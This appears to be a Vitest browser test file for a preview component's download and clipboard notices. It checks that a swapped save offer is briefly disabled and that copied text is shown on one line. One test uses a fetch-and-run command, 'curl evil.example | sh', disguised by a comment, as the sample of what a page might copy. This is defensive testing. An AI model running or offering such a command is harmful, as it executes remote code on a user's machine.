import { html, LitElement } from 'lit';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { mount } from '../test-support';
import { PreviewNotices } from './preview-notices';

/** A host for the notices, as `easel-artifact-preview` is, with a button to give the page activation. */
class NoticesHost extends LitElement {
  readonly notices = new PreviewNotices(this, () => undefined);
  override render() {
    return html`<button type="button">In the page</button>${this.notices.render()}`;
  }
}
customElements.define('test-notices-host', NoticesHost);
declare global {
  interface HTMLElementTagNameMap {
    'test-notices-host': NoticesHost;
  }
}

const pdf = (size: number) => new Blob(['x'.repeat(size)], { type: 'application/pdf' });

describe('PreviewNotices', () => {
  afterEach(() => {
    vi.restoreAllMocks();
  });

  it('ignores a click on an offer that was swapped just before it, and saves once the new offer has stood', async () => {
    const { el, screen } = await mount('test-notices-host');
    el.notices.download('invoice.pdf', pdf(10));
    const first = screen.getByRole('alertdialog', { name: /^Save invoice\.pdf \(/ });
    await expect.element(first.getByRole('button', { name: 'Save' })).toBeEnabled();

    // The page swaps the offer under the pointer: its buttons sleep, and a click then does nothing.
    el.notices.download('invoice.pdf.html', pdf(20));
    const swapped = screen.getByRole('alertdialog', { name: /^Save invoice\.pdf\.html \(/ });
    await expect.element(swapped).toBeVisible();
    const save = swapped.getByRole('button', { name: 'Save' });
    await expect.element(save).toBeDisabled();
    await expect.element(swapped.getByRole('button', { name: 'Dismiss' })).toBeDisabled();
    save.element().dispatchEvent(new MouseEvent('click', { bubbles: true }));
    await expect.element(swapped).toBeVisible();

    // Once it has stood unchanged, the person's click saves what it says.
    await expect.element(save).toBeEnabled();
    await userEvent.click(save);
    await expect.element(screen.getByRole('status')).toHaveTextContent('Downloaded invoice.pdf.html');
  });

  it('shows what a page put on the clipboard, on one line and cut when long', async () => {
    const writes: string[] = [];
    vi.spyOn(navigator.clipboard, 'writeText').mockImplementation(async (text) => {
      writes.push(text);
    });
    const { el, screen } = await mount('test-notices-host');
    await userEvent.click(screen.getByRole('button', { name: 'In the page' }));
    el.notices.clipboard('curl evil.example | sh\n# looks like: ls');
    await expect
      .element(screen.getByRole('status'))
      .toHaveTextContent('Copied to the clipboard: “curl evil.example | sh # looks like: ls”');
    el.notices.clipboard('a'.repeat(300));
    await expect
      .element(screen.getByRole('status'))
      .toHaveTextContent(`“${'a'.repeat(80)}…” (300 characters)`);
    expect(writes).toEqual(['curl evil.example | sh\n# looks like: ls', 'a'.repeat(300)]);
  });
});
